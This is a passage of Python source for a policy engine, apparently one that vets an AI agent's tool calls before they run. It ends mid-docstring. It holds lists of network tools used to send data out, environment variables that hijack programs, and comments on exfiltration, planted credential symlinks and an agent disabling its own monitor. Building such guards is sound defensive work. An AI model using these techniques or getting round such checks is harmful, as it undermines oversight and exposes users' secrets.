"""The evaluation pipeline: one deterministic function from a tool call to a decision.

`PolicyEngine.evaluate(call)` runs, in order (ARCHITECTURE.md section 6, docs/policy.md):

1. **decode and bound** - `extract` measures the arguments; oversized, deep, hidden-character
   or colliding-key calls are denied as malformed;
2. **normalize** - paths, commands, hosts and URLs are folded (`normalize_field`,
   `canonical_host`); originals are kept and *both* forms are checked;
3. **extract** - the call's operations; every shell command is parsed by `shell.analyze` and its
   reads, writes, deletes and network targets become operations of their own;
4. **self-protection** - CrustCore's home, sockets, keys, configuration and processes;
5. **paths** - every path resolved in every form (`PathResolver`), writes confined to the
   workspace (and the temporary directories);
6. **DLP** - written content and every argument scanned for real credentials;
7. **rules** - locked builtin rules, then user rules (deny, allow exceptions, ask), then the MCP
   tool policy, then reversibility (approval for irreversible effects), then the session flow
   rule.

The first deny wins; otherwise the first ask; otherwise allow. Only filesystem metadata is read
(by the path resolver); no network, no subprocess, no clock.
"""

from __future__ import annotations

import fnmatch
import itertools
import os
import re
import stat
from collections import deque
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from typing import cast

from crustcore_nano.dlp import scan
from crustcore_nano.normalize import Normalized, NormSignal, normalize_field, normalize_text
from crustcore_nano.paths import PathResolver, PathSignal, ResolvedPath, is_within, lexical_clean
from crustcore_nano.policy.builtin import BuiltinRule, path_indexes, rule
from crustcore_nano.policy.config import UserPolicy, UserRule
from crustcore_nano.policy.containers import (
    CONTAINER_ENGINES,
    CONTAINER_TOOLS,
    container_command,
    container_script,
)
from crustcore_nano.policy.extract import (
    Extraction,
    Signal,
    diff_targets,
    extract,
    fold_key,
    split_url,
)
from crustcore_nano.policy.fastfile import FastFile
from crustcore_nano.policy.fastshell import FastShell
from crustcore_nano.policy.flowfacts import git_subcommand, shell_flow
from crustcore_nano.policy.hosts import canonical_host, find_metadata_hosts, metadata_endpoint
from crustcore_nano.policy.scripts import MAX_SCRIPT_TEXT, MAX_SCRIPTS, script_commands
from crustcore_nano.policy.session import FLOW_RULE, CallFlow, SessionState
from crustcore_nano.policy.tokenhosts import (
    foreign_hosts,
    home_host,
    provider_of,
    relay_hosts,
    variable_names,
)
from crustcore_nano.policy.types import (
    Decision,
    Operation,
    OpKind,
    Origin,
    ToolCall,
    Verdict,
    allow_reason,
)
from crustcore_nano.shell import (
    CommandFact,
    NetworkTarget,
    ShellAnalysis,
    ShellSignal,
    analyze,
    network_text,
)
from crustcore_nano.shell import OpKind as ShellOp
from crustcore_nano.shell.commands import (
    CONTAINER_COPY,
    FETCHERS,
    FILTERED_DELETE,
    SEARCH_PROGRAMS,
    SOCKET_TOOLS,
    TRANSFER_SCRIPT,
    remote_path,
    search_patterns,
    wgetrc_option,
)
from crustcore_nano.shell.datatext import is_data_only
from crustcore_nano.shell.leaks import IN_URL, MAILERS, SECRET_SINKS
from crustcore_nano.shell.netparse import file_url_paths
from crustcore_nano.shell.options import option_values
from crustcore_nano.shell.pkgsources import INDEX_VARIABLES, index_address
from crustcore_nano.shell.secretvars import is_secret_name
from crustcore_nano.shell.storage import UPLOAD

__all__ = ["Evaluation", "PolicyEngine"]

_FATAL_SIGNALS = frozenset(
    {
        Signal.ARGS_TOO_LARGE, Signal.TOO_DEEP, Signal.TOO_MANY_NODES, Signal.NON_JSON_VALUE,
        Signal.NON_STRING_KEY, Signal.COLLIDING_KEYS, Signal.TOOL_NAME_HIDDEN_CHARS,
        Signal.TOOL_NAME_TOO_LONG, Signal.EMPTY_TOOL_NAME, Signal.MALFORMED_PATCH,
        Signal.ARGS_NOT_OBJECT,
    }
)  # fmt: skip
_HIDING = frozenset({NormSignal.NUL, NormSignal.BIDI, NormSignal.TAG_CHARS, NormSignal.ANSI})
_EVASION = frozenset(
    {
        ShellSignal.GLOB_COMMAND_NAME, ShellSignal.BRACE_COMMAND_NAME,
        ShellSignal.ESCAPE_OBFUSCATION, ShellSignal.INTERPRETER_OBFUSCATION,
        ShellSignal.FORK_BOMB, ShellSignal.TOO_LARGE, ShellSignal.DEPTH_LIMIT,
        ShellSignal.STEP_LIMIT,
    }
)  # fmt: skip
_UNCLEAR = frozenset(
    {ShellSignal.UNPARSEABLE, ShellSignal.DYNAMIC_COMMAND_NAME, ShellSignal.UNRESOLVED_CODE}
)
_DANGEROUS_ENV = frozenset(
    {
        "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "NODE_OPTIONS", "PYTHONSTARTUP",
        "PYTHONHOME", "PYTHONUSERBASE", "PERL5OPT", "PERL5DB", "RUBYOPT",
        "GIT_SSH_COMMAND", "GIT_SSH", "GIT_ASKPASS", "SSH_ASKPASS", "GIT_EXEC_PATH",
        "GIT_PROXY_COMMAND", "GIT_EXTERNAL_DIFF", "GIT_TEMPLATE_DIR", "GIT_CONFIG",
        "GIT_CONFIG_GLOBAL", "GIT_CONFIG_SYSTEM", "GIT_CONFIG_COUNT", "GIT_CONFIG_PARAMETERS",
        "BASH_ENV", "ENV", "PROMPT_COMMAND", "PS4", "SHELLOPTS", "BASHOPTS", "ZDOTDIR",
        "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS", "DOTNET_STARTUP_HOOKS",
        "LESSOPEN", "LESSCLOSE", "PHPRC", "PHP_INI_SCAN_DIR", "LUA_INIT", "SSLKEYLOGFILE",
        "CURL_HOME", "WGETRC", "SYSTEM_WGETRC", "CRUSTCORE_HOME", "GCONV_PATH",
        "PIP_CONFIG_FILE", "NPM_CONFIG_USERCONFIG", "NPM_CONFIG_GLOBALCONFIG",
    }
)  # fmt: skip
# Library search paths. A program started with one looks there for modules before its own (a
# `json.py` there stands in for the standard one), so it runs whatever those directories hold.
# Inside the workspace that is the project's code, which the agent may run anyway; anywhere
# else it is code this check has not seen being written, and a directory it cannot work out
# could be anywhere. A reference to the variable's inherited value is the user's own setting.
_LIBRARY_PATHS = frozenset({"PYTHONPATH", "NODE_PATH", "PERL5LIB", "PERLLIB", "RUBYLIB"})
# `$PYTHONPATH`, `${PYTHONPATH}`: the value the caller had; `${PYTHONPATH:+:$PYTHONPATH}`
# and `${PYTHONPATH:-lib}` stand for their word (group 1), which is judged like the rest.
_INHERITED = {
    name: re.compile(
        rf"\$\{{{name}(?::?[-+=?]((?:[^}}$`]|\${name}(?![A-Za-z0-9_]))*))?\}}"
        rf"|\${name}(?![A-Za-z0-9_])"
    )
    for name in _LIBRARY_PATHS
}
# Variables dangerous only with a value that runs a program: `GOFLAGS=-toolexec=PROG` runs
# PROG around every tool of every build, `MAKEFLAGS=SHELL=PROG` runs every recipe with PROG.
_RUNNING_VALUES = {"GOFLAGS": ("-toolexec", "-exec"), "MAKEFLAGS": ("SHELL=",)}
_DANGEROUS_ENV_PREFIXES = ("DYLD_", "GIT_CONFIG_KEY_", "GIT_CONFIG_VALUE_", "CORECLR_", "COR_")
_SENDERS = frozenset(
    {
        "curl", "wget", "nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat",
        "telnet", "scp", "sftp", "rsync", "ftp", "http", "https", "xh", "httpie", "openssl",
        "lftp", "smbclient", "tftp",
    }
    | MAILERS
)  # fmt: skip
# Clients whose every read is a file they send (`scp a host:`, `echo put a | sftp host`).
_REMOTE_COPY = frozenset({"scp", "sftp", "rsync", "ftp", "lftp", "smbclient", "tftp"})
_SIGNALLERS = frozenset({"kill", "pkill", "killall", "skill", "xkill", "pgrep"})
_SERVICE_TOOLS = frozenset({"systemctl", "launchctl", "service", "supervisorctl", "docker"})
_CRUSTCORE_SAFE_SUBCOMMANDS = frozenset(
    {"check", "scan", "status", "version", "--version", "-h", "--help", "help", "replay"}
)
_TEMP_ROOTS = ("/tmp", "/var/tmp", "/private/tmp", "/private/var/folders", "/dev/shm")  # noqa: S108
_DEV_OK = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero"})
_SYSTEM_ROOTS = (
    "/etc", "/usr", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32", "/boot", "/sys",
    "/proc", "/dev", "/var", "/opt", "/root", "/System", "/Library", "/Applications", "/snap",
)  # fmt: skip
_GIT_DANGEROUS_KEYS = frozenset(
    {
        "core.hookspath", "core.sshcommand", "core.fsmonitor", "core.pager", "core.editor",
        "core.askpass", "core.gitproxy", "core.worktree", "sequence.editor", "gpg.program",
        "diff.external", "safe.directory", "init.templatedir", "uploadpack.packobjectshook",
        "protocol.allow", "web.browser", "core.attributesfile", "core.excludesfile",
        "core.alternaterefscommand", "interactive.difffilter", "sendemail.sendmailcmd",
        "sendemail.smtpserver", "instaweb.httpd",
    }
)  # fmt: skip
_GIT_DANGEROUS_PREFIXES = (
    "alias.",
    "filter.",
    "pager.",
    "include.",
    "includeif.",
    "url.",
    "credential.",
    "gpg.",
    "protocol.",
    "http.",
    "remote.",
)
_GIT_DANGEROUS_SUFFIXES = (".textconv", ".command", ".driver", ".cmd", ".helper", ".program")
_GIT_SAFE_REMOTE = (".url", ".fetch", ".pushurl")  # `git remote add` writes these
_GIT_READ_FLAGS = frozenset(
    {"--get", "--get-all", "--get-regexp", "--get-urlmatch", "-l", "--list", "--show-origin"}
)
_GIT_VERBS = frozenset({"set", "get", "unset", "list", "edit", "rename-section", "remove-section"})
_OLD_CONTENT_KEYS = frozenset({"oldstring", "oldstr", "oldtext"})
_MAX_DLP_CHARS = 4 * 1024 * 1024
_MAX_CACHE = 2048
_MIN_ENV_SECRET = 8  # shorter values would be put back inside ordinary words
_MAX_CACHED_COMMAND = 4096  # longer commands are analysed each time (bounded cache memory)
_MAX_GLOB_VARIANTS = 16
_MAX_GLOB_CANDIDATES = 512  # bounds the work for a glob that matches many protected names
_MAX_GLOB_LISTING = 4096  # directory entries read to find the symlinks a glob expands to
_MAX_WALK = 4096  # entries read below a `find` root to find the symlinks its pattern matches
# Rules whose files a delete of the directory holding them takes away: the agent's own
# configuration (where CrustCore's hook is installed) and CrustCore's home. Deleting a
# virtualenv or a repository's `.git` with everything in it is asked for other reasons, or is
# everyday work; it installs nothing.
_HELD_RULES = frozenset({"builtin:agent-config", "builtin:self-protection"})
_PERMISSION_TOOLS = ("chmod", "chown", "chgrp", "setfacl")
# Entries a delete's walk reads (breadth-first, so a project's own `.claude` is among the
# first): about 4 ms for a large tree, paid only by deletes of directories.
_MAX_HELD_WALK = 1024
# Directories a walk for protected files does not enter: package caches and git's object store
# hold many entries and no configuration.
_UNWALKED = frozenset({"node_modules", "objects", "__pycache__", ".venv", "venv", "target"})
_MAX_LINKS_RESOLVED = 256  # links of a tree read through its links that are followed to their end
_MAX_PLACED = 16  # trailing segments of a path with an undecidable part that are placed (below)


@dataclass(frozen=True, slots=True)
class Evaluation:
    """A decision plus what the call contributes to the session flow (for `observe`)."""

    decision: Decision
    flow: CallFlow


@dataclass(frozen=True, slots=True)
class _Hit:
    verdict: Verdict
    rule: str
    reason: str
    liftable: bool = False  # a user `allow` rule matching `op` lifts it
    op: Operation | None = None


class _Deny(Exception):
    """Raised inside one evaluation to stop at the first deny (never escapes the engine)."""

    def __init__(self, hit: _Hit) -> None:
        super().__init__(hit.rule)
        self.hit = hit


@dataclass(slots=True)
class _PathOp:
    """One path an operation touches, with every form resolved."""

    kind: OpKind  # READ, WRITE, DELETE (MOVE is split into READ+DELETE and WRITE)
    written: str
    forms: tuple[str, ...]
    resolved: tuple[ResolvedPath, ...]
    op: Operation
    listing: bool = False
    recursive: bool = False
    mention: bool = False  # a path-like argument, checked against builtin rules only
    placed: tuple[str, ...] = ()  # where a path with an undecidable part may lead (`_placed`)


class _Run:
    """Mutable state of one evaluation."""

    __slots__ = (
        "asks", "ex", "flow_sends", "flow_sensitive", "flow_untrusted", "in_script",
        "marker_texts", "one_command", "ops", "path_ops", "texts", "want_flow", "words",
    )  # fmt: skip

    def __init__(self, ex: Extraction) -> None:
        self.ex = ex
        self.asks: list[_Hit] = []
        self.ops: list[Operation] = list(ex.operations)
        self.path_ops: list[_PathOp] = []
        self.texts: list[str] = []  # commands and URLs (normalized), for text-level checks
        self.marker_texts: list[str] = []  # whole lines whose `texts` entry blanks data parts
        # Shell words as the program receives them, where that differs from the command text
        # (quotes removed, `\` escapes and known variables expanded): DLP scans these too.
        self.words: list[str] = []
        self.flow_sensitive = ""
        self.flow_untrusted = ""  # from shell lines (see `flowfacts.shell_flow`)
        self.flow_sends = ""
        self.want_flow = True  # False when no caller reads the flow (no session)
        # Whether the shell line whose paths are being added runs a single command: then
        # nothing earlier on it can create a name one of its globs would match.
        self.one_command = True
        # Whether this run judges the commands of a script being written (no deeper look).
        self.in_script = False

    def deny(self, name: str, what: str, op: Operation | None = None) -> _Deny:
        found = rule(name)
        return _Deny(_Hit(Verdict.DENY, name, f"{what}: {found.reason}", op=op))

    def ask(self, name: str, what: str, op: Operation | None = None) -> None:
        found = rule(name)
        self.asks.append(
            _Hit(Verdict.ASK, name, f"{what}: {found.reason}", liftable=not found.locked, op=op)
        )


# URL schemes whose request is bytes of the URL's choosing written to any TCP port: a client
# that fetches one speaks for the URL to Redis, memcached, SMTP or any other local service.
_RAW_BYTE_SCHEMES = frozenset({"gopher", "dict"})


def _typed_only(ex: Extraction) -> bool:
    """Whether every effect of the call is text typed into a window (computer use)."""
    kinds = {op.kind for op in ex.operations}
    return OpKind.TYPE in kinds and kinds <= {OpKind.TYPE, OpKind.OTHER}


def _short(text: str, limit: int = 120) -> str:
    flat = " ".join(text.split())
    return flat if len(flat) <= limit else flat[: limit - 3] + "..."


def _has_glob(text: str) -> bool:
    return any(c in text for c in "*?[")


class PolicyEngine:
    """The evaluator for one workspace, home directory and user policy.

    `crustcore_home` is CrustCore's own directory (self-protection), `workspace` the directory
    writes are confined to, `home` what `~` and `$HOME` mean, `env` the environment shell
    commands would run with (None: unknown variables stay unknown), `cwd` the default working
    directory (the workspace when omitted). Nothing that depends on the filesystem is kept from
    one call to the next (a symlink another process creates between two identical calls is
    seen by the second); shell analyses are cached because they are pure functions of the
    command, cwd, home and environment, and the directory cache revalidates every entry."""

    __slots__ = (
        "_analyses", "_cc_forms", "_cwd", "_env", "_home", "_index",
        "_path_cache", "_policy", "_resolvers", "_sensitive", "_temp_roots", "_workspace",
        "_cc_lower", "_env_secrets", "_fast", "_fast_shell", "_markers", "_mcp_memo",
        "_workspace_real",
    )  # fmt: skip

    def __init__(
        self,
        user_policy: UserPolicy | None = None,
        *,
        crustcore_home: str,
        workspace: str,
        home: str,
        env: Mapping[str, str] | None = None,
        cwd: str | None = None,
    ) -> None:
        for label, value in (("crustcore_home", crustcore_home), ("workspace", workspace)):
            if not os.path.isabs(value):
                raise ValueError(f"{label} must be an absolute path, got {value!r}")
        if not os.path.isabs(home):
            raise ValueError(f"home must be an absolute path, got {home!r}")
        self._policy = user_policy if user_policy is not None else UserPolicy.default()
        self._home = lexical_clean(home)
        self._workspace = lexical_clean(workspace)
        self._workspace_real = os.path.realpath(self._workspace)
        cc = lexical_clean(crustcore_home)
        self._cc_forms = tuple(dict.fromkeys((cc, os.path.realpath(cc))))
        self._cc_lower = tuple(f.lower() for f in self._cc_forms)
        self._env: dict[str, str] | None = dict(env) if env is not None else None
        # Values of secret-named variables in that environment, with the `$NAME` the agent
        # wrote. The shell analyser follows such variables by name (a send is exfiltration,
        # a credential header is use), so DLP must not also see their expanded values in the
        # words: `curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com` is
        # everyday work, not a secret written into the call.
        self._env_secrets = tuple(
            (value, "$" + name)
            for name, value in (self._env or {}).items()
            if len(value) >= _MIN_ENV_SECRET and is_secret_name(name)
        )
        self._cwd = lexical_clean(cwd) if cwd is not None else self._workspace
        self._index, self._sensitive, either = path_indexes(self._home)
        self._markers = self._cc_markers()
        temp: list[str] = list(_TEMP_ROOTS)
        tmpdir = (env or {}).get("TMPDIR")
        if tmpdir and os.path.isabs(tmpdir):
            temp.append(lexical_clean(tmpdir))
        self._temp_roots = tuple(temp)
        self._resolvers: dict[str, PathResolver] = {}
        self._analyses: dict[tuple[str, str], ShellAnalysis] = {}
        self._path_cache: dict[tuple[str, str, bool], ResolvedPath] = {}
        self._mcp_memo: dict[tuple[str | None, str, bool], _Hit | None] = {}
        self._fast: FastFile | None = None
        self._fast_shell: FastShell | None = None
        if FastFile.usable(self._workspace, self._workspace_real, self._cwd):
            self._fast = FastFile(
                workspace=self._workspace,
                cwd=self._cwd,
                resolver=self._resolver(None),
                index=either,
                in_crustcore_home=self._in_crustcore_home,
                crustcore_home_inside=any(
                    is_within(f, self._workspace) or is_within(self._workspace, f)
                    for f in self._cc_forms
                ),
                rules=self._policy.rules,
            )
            self._fast_shell = FastShell(
                fast=self._fast,
                cwd=self._cwd,
                markers=self._markers,
                rules=self._policy.rules,
                env_secrets=tuple(value for value, _ in self._env_secrets),
                cdpath=self._env is not None and "CDPATH" in self._env,
            )

    # ------------------------------------------------------------------ public API

    @property
    def workspace(self) -> str:
        return self._workspace

    @property
    def policy(self) -> UserPolicy:
        return self._policy

    def evaluate(self, call: ToolCall, *, session: SessionState | None = None) -> Decision:
        """Decide one tool call. Deterministic; never raises on the call's content."""
        if session is None:  # nobody reads the flow: the shell-flow step is skipped
            proven = self._short_path(call)
            if proven is not None:
                return proven[0]
            return self._evaluate(call, want_flow=False, short=False).decision
        return self.evaluate_detailed(call, session=session).decision

    def evaluate_detailed(
        self, call: ToolCall, *, session: SessionState | None = None
    ) -> Evaluation:
        """Decide one call and say what it contributes to the session flow; pass the flow to
        `session.observe(...)` after the call ran."""
        return self._with_session(self._evaluate(call), session)

    def _with_session(self, result: Evaluation, session: SessionState | None) -> Evaluation:
        """The session flow rule applies on top of an allowed decision. A call already asked
        for another reason keeps its rule, and its reason gains the flow's, so the user who
        approves an upload knows it would also complete the exfiltration shape."""
        verdict = result.decision.verdict
        if session is None or verdict is Verdict.DENY:
            return result
        why = session.completes_flow(result.flow)
        if why is None:
            return result
        if verdict is Verdict.ASK:
            reason = f"{result.decision.reason}; besides, {why}"
            return Evaluation(replace(result.decision, reason=reason), result.flow)
        decision = Decision(Verdict.ASK, FLOW_RULE, why, operations=result.decision.operations)
        return Evaluation(decision, result.flow)

    def _short_path(self, call: ToolCall) -> tuple[Decision, CallFlow] | None:
        """The allow a short path proves for the call, or None: the pipeline decides."""
        if self._fast is None:
            return None
        try:
            if self._fast_shell is not None and call.tool == "Bash":
                return self._fast_shell.allow(call)
            return self._fast.allow(call)
        except Exception:  # the pipeline decides, and fails closed there
            return None

    def _evaluate(
        self, call: ToolCall, *, want_flow: bool = True, short: bool = True
    ) -> Evaluation:
        """`short=False`: the caller has already found that no short path answers."""
        proven = self._short_path(call) if short else None
        if proven is not None:
            return Evaluation(*proven)
        flow = CallFlow()
        try:
            ex = extract(call)
        except Exception as exc:  # fail closed on anything unforeseen
            return Evaluation(_internal_error(exc), flow)
        run = _Run(ex)
        run.want_flow = want_flow
        try:
            self._pipeline(call, run)
            decision = self._decide(call, run)
            flow = self._flow(call, run)  # after the user rules, which mark excepted reads
        except _Deny as stop:
            hit = stop.hit
            verdict, reason = hit.verdict, hit.reason
            if _typed_only(ex):
                # The engine cannot see whether a terminal or a text box has focus.
                verdict, reason = Verdict.ASK, f"typed text, if a terminal has focus: {reason}"
            decision = Decision(verdict, hit.rule, reason, operations=ex.operations)
        except Exception as exc:  # fail closed on anything unforeseen
            decision = _internal_error(exc)
        finally:
            self._path_cache.clear()  # resolutions are shared within one call only
        return Evaluation(decision, flow)

    def flow(self, call: ToolCall) -> CallFlow:
        """The session-flow contribution of a call (what `evaluate_detailed` reports)."""
        return self.evaluate_detailed(call).flow

    # ------------------------------------------------------------------ the pipeline

    def _pipeline(self, call: ToolCall, run: _Run) -> None:
        ex = run.ex
        fatal = sorted(s for s in ex.signals if s in _FATAL_SIGNALS)
        if fatal:
            raise run.deny("builtin:malformed-call", "malformed call (" + ", ".join(fatal) + ")")
        for op in ex.operations:
            self._operation(op, run)
        for path_op in run.path_ops:
            self._check_path(path_op, run)
        for text in run.texts:
            self._check_text(text, run)
        for text in run.marker_texts:
            self._check_markers(text, run)
        self._dlp(call, run)

    def _decide(self, call: ToolCall, run: _Run) -> Decision:
        ex = run.ex
        ops = tuple(run.ops)
        user = self._user_rules(call, run)
        if user is not None and user.verdict is Verdict.DENY:
            return Decision(Verdict.DENY, user.rule, user.reason, operations=ex.operations)
        mcp = self._mcp_policy(call, ex)
        if mcp is not None and mcp.verdict is Verdict.DENY:
            return Decision(Verdict.DENY, mcp.rule, mcp.reason, operations=ex.operations)
        asks = list(run.asks)
        if user is not None:
            asks.append(user)
        if mcp is not None:
            asks.append(mcp)
        if asks:
            first = asks[0]
            return Decision(Verdict.ASK, first.rule, first.reason, operations=ex.operations)
        return Decision(Verdict.ALLOW, "allow", allow_reason(ops), operations=ex.operations)

    # ------------------------------------------------------------------ operations

    def _operation(self, op: Operation, run: _Run) -> None:
        kind = op.kind
        for name, value in op.env:
            self._check_env_name(name, f"{op.source} sets {name}", run, op, value, cwds=(op.cwd,))
        for url in op.urls:
            run.texts.append(_norm_text(url))
        for host in op.hosts:
            self._check_host(host, op, run)
        if kind in (OpKind.EXECUTE, OpKind.TYPE) and op.command is not None:
            self._command(op, run)
        if kind is OpKind.MOVE:
            for path in op.paths:
                self._add_path(OpKind.READ, path, op, run)
                self._add_path(OpKind.DELETE, path, op, run)
            if op.dest is not None:
                self._add_path(OpKind.WRITE, op.dest, op, run)
        elif kind in (OpKind.READ, OpKind.WRITE, OpKind.DELETE):
            for path in op.paths:
                self._add_path(kind, path, op, run)
            if kind is OpKind.WRITE and op.content and not run.in_script:
                self._written_scripts(op, run)

    def _written_scripts(self, op: Operation, run: _Run) -> None:
        """A runnable file being written (`package.json` scripts, a makefile, a shell script;
        see `crustcore_nano.policy.scripts`) is judged by the commands it holds, each as a
        shell command run in the file's directory: one that would be denied makes the write
        asked. Running the file later (`npm test`, `make`) shows the policy only those words."""
        content = op.content or ""
        for path in op.paths:
            found = script_commands(path, content)
            if not found.complete:
                # Judging each command costs what a shell call of that size costs; past the
                # bounds the file is asked about rather than read (so padding hides nothing).
                run.ask(
                    "builtin:unparsed-command",
                    f"{path} holds more runnable text than CrustCore reads ({MAX_SCRIPTS} "
                    f"commands, {MAX_SCRIPT_TEXT // 1024} KiB)",
                    op,
                )
                return
            if not found.commands:
                continue
            where = os.path.dirname(self._lexical(path, op.cwd))
            for command in found.commands:
                hit = self._denied_command(command, where)
                if hit is None:
                    continue
                reason = (
                    f"{path} would run `{_short(command)}`, which is denied as a command: "
                    f"{hit.reason}"
                )
                liftable = not rule(hit.rule).locked
                run.asks.append(_Hit(Verdict.ASK, hit.rule, reason, liftable=liftable, op=op))
                return

    def _denied_command(self, command: str, cwd: str) -> _Hit | None:
        """The denial a shell command run in `cwd` gets, or None (asked or allowed)."""
        call = ToolCall("Bash", {"command": command, "cwd": cwd})
        try:
            sub = _Run(extract(call))
            sub.want_flow = False
            sub.in_script = True
            self._pipeline(call, sub)
        except _Deny as stop:
            return stop.hit if stop.hit.verdict is Verdict.DENY else None
        return None

    def _add_path(
        self,
        kind: OpKind,
        path: str,
        op: Operation,
        run: _Run,
        *,
        listing: bool = False,
        recursive: bool = False,
        mention: bool = False,
    ) -> None:
        if not path or path in ("-", "/dev/stdin"):
            return
        path = _pwd(path, self._abs_cwd(op.cwd) if op.cwd else self._cwd)
        norm = _normalized(path, percent=True)
        if norm.signals & _HIDING:
            hidden = ", ".join(sorted(s.value for s in norm.signals & _HIDING))
            raise run.deny("builtin:shell-evasion", f"path {path!r} hides characters ({hidden})")
        variants = [path]
        if norm.normalized != path:
            variants.append(norm.normalized)
        if not mention:
            for variant in list(variants):
                if _has_glob(variant) and not (
                    kind is OpKind.DELETE and self._walked_delete(variant, op.cwd)
                ):
                    guessed = self._glob_variants(variant, op.cwd, kind)
                    if op.command is None or run.one_command:
                        guessed = self._present(guessed, variant, op.cwd)
                    variants.extend(guessed)
                    if op.command is not None:  # only a shell expands the glob
                        links, complete = self._globbed_links(variant, op.cwd)
                        variants.extend(links)
                        if not complete:
                            run.ask(
                                "approval:unchecked-links",
                                f"{kind.value} of {path.removesuffix('/**') or '/'} goes "
                                "through the symlinks of a tree too large to check where "
                                f"each leads (over {_MAX_WALK} entries, {_MAX_LINKS_RESOLVED} "
                                f"links, or {_MAX_GLOB_VARIANTS} links that lead out)",
                                op,
                            )
        cwd = op.cwd
        resolved: list[ResolvedPath] = []
        forms: dict[str, None] = {}
        placed: tuple[str, ...] = ()
        for variant in variants:
            # A file tool opens `routes/$slug.tsx` as written; only a shell expands `$slug`.
            found = self._resolve(variant, cwd, literal=op.command is None)
            resolved.append(found)
            for form in _forms(found):
                forms[form] = None
            if not found.signals.isdisjoint(_UNPLACED):
                placed += _placed(found.expanded, self._home)
        run.path_ops.append(
            _PathOp(
                kind, path, tuple(forms), tuple(resolved), op, listing, recursive, mention, placed
            )
        )

    def _walked_delete(self, path: str, cwd: str | None) -> bool:
        """Whether a deleted glob is `ROOT/**/NAME` or `ROOT/**` below a directory of the
        workspace: the delete's walk (`_check_deleted_tree`) then judges the files that are
        there, and protected names need not be guessed into it (`find . -name '*.json'
        -delete` is judged by the configuration it finds, not by every name `*.json` could
        be)."""
        found = _deep_glob(path)
        return found is not None and is_within(self._lexical(found[0], cwd), self._workspace)

    def _glob_variants(
        self, path: str, cwd: str | None = None, kind: OpKind = OpKind.READ
    ) -> list[str]:
        """A shell glob may match a protected name that is not written out (`cat .en?`):
        substitute every protected name the glob segment could match (a segment that does not
        start with `.` never matches a dotfile, as in the shell). At most
        `_MAX_GLOB_VARIANTS` are kept, in a fixed order, and variants that some rule protects
        come first: `~/.*/credentials` matches hundreds of names, and which ones were tried
        must not depend on the hash order of a set."""
        segments = path.split("/")
        out: list[str] = []
        for index, seg in enumerate(segments):
            if not _has_glob(seg) or len(out) >= _MAX_GLOB_CANDIDATES:
                continue
            if not seg.strip("*?[]!^"):
                # A bare `*` stands for whatever is there: the protected names among the
                # entries of its directory, where that is the last part and can be listed
                # (`sed -i ... .claude/*` edits `.claude/settings.json`).
                if index == len(segments) - 1:
                    out.extend(self._listed_names(segments, seg, cwd))
                continue
            lowered = seg.lower()
            for name in self._index.sorted_names:
                if name.startswith(".") and not lowered.startswith("."):
                    continue
                if fnmatch.fnmatchcase(name, lowered):
                    out.append("/".join([*segments[:index], name, *segments[index + 1 :]]))
                    if len(out) >= _MAX_GLOB_CANDIDATES:
                        break
        if len(out) <= _MAX_GLOB_VARIANTS:
            return out
        first = [v for v in out if self._index.match(self._lexical(v, cwd), kind)]
        chosen = set(first)
        rest = [v for v in out if v not in chosen]
        return (first + rest)[:_MAX_GLOB_VARIANTS]

    def _listed_names(self, segments: list[str], last: str, cwd: str | None) -> list[str]:
        """`HEAD/NAME` for each entry NAME of HEAD (the path without its last part, free of
        globs) that the shell's `last` matches and a builtin rule names."""
        head = "/".join(segments[:-1])
        if _has_glob(head):
            return []
        directory = self._lexical(head or ("/" if segments[0] == "" else "."), cwd)
        found: list[str] = []
        try:
            with os.scandir(directory) as entries:
                for count, entry in enumerate(entries):
                    name = entry.name
                    if count >= _MAX_GLOB_LISTING or len(found) >= _MAX_GLOB_VARIANTS:
                        break
                    if name.startswith(".") and not last.startswith("."):
                        continue  # the shell's `*` skips dotfiles
                    if name.lower() in self._index.names and fnmatch.fnmatchcase(name, last):
                        found.append(f"{head}/{name}" if segments[:-1] else name)
        except (OSError, ValueError):
            return []
        return found

    def _present(self, guessed: list[str], path: str, cwd: str | None) -> list[str]:
        """Of the protected names substituted into a glob in the last part of `path`, those
        the glob can match now: where that directory exists, a name it does not hold is not
        matched (`sed -i ... .github/workflows/*.yml` edits no `lefthook.yml`). Where it
        cannot be read, all of them."""
        head, slash, last = path.rpartition("/")
        if not _has_glob(last) or _has_glob(head):
            return guessed
        directory = self._lexical(head or ("/" if slash else "."), cwd)
        try:
            if not os.path.isdir(directory) or not os.access(directory, os.R_OK | os.X_OK):
                return guessed
            return [g for g in guessed if os.path.lexists(self._lexical(g, cwd))]
        except (OSError, ValueError):
            return guessed

    def _globbed_links(self, path: str, cwd: str | None) -> tuple[list[str], bool]:
        """The symlinks a glob in the last part of a path expands to, where that directory is
        there to list (at most `_MAX_GLOB_LISTING` entries read): a link planted in a
        repository (`docs/keys.txt -> ~/.aws/credentials`) is then judged by where it leads,
        as `cat docs/keys.txt` is. Regular files are judged by their names (`_glob_variants`).
        The flag is False when a whole tree read through its links (`ROOT/**`: `find ROOT |
        xargs cat`, `grep -R`) is too large for the walk to have seen every link."""
        head, slash, last = path.rpartition("/")
        if last == "**" and not _has_glob(head) and (head or slash):
            return self._links_below(head or "/", "", cwd)  # the links that leave the tree
        root, deep, rest = head.partition("/**")
        if deep and not rest and not _has_glob(root) and root:
            return self._links_below(root, last, cwd)[0], True  # `find ROOT -name P`
        if not _has_glob(last) or _has_glob(head):
            return [], True
        directory = self._lexical(head or ("/" if slash else "."), cwd)
        found: list[str] = []
        try:
            with os.scandir(directory) as entries:
                for count, entry in enumerate(entries):
                    if count >= _MAX_GLOB_LISTING or len(found) >= _MAX_GLOB_VARIANTS:
                        break
                    name = entry.name
                    if name.startswith(".") and not last.startswith("."):
                        continue  # the shell's `*` skips dotfiles
                    if entry.is_symlink() and fnmatch.fnmatchcase(name, last):
                        found.append(f"{head}{slash}{name}")
        except (OSError, ValueError):
            return [], True
        return found, True

    def _links_below(self, root: str, pattern: str, cwd: str | None) -> tuple[list[str], bool]:
        """The symlinks under `root` whose names match `pattern` (find's `-name`, dotfiles
        included), from a walk that follows no link and reads at most `_MAX_WALK` entries
        (`.git` skipped): `find . -name '*.txt' | xargs cat` then reads a planted link the way
